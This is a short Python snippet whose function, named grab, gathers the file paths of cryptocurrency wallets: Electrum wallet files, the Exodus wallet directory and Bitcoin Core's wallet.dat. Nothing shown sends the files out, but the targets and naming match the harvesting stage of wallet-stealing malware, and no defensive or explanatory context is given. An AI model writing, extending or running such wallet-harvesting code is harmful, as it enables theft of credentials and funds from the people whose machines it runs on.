import os, glob
def grab():
    out = []
    for p in ["~/.electrum/wallets/*", "~/.config/Exodus/exodus.wallet/*", "~/.bitcoin/wallet.dat"]:
        out += glob.glob(os.path.expanduser(p))
    return out
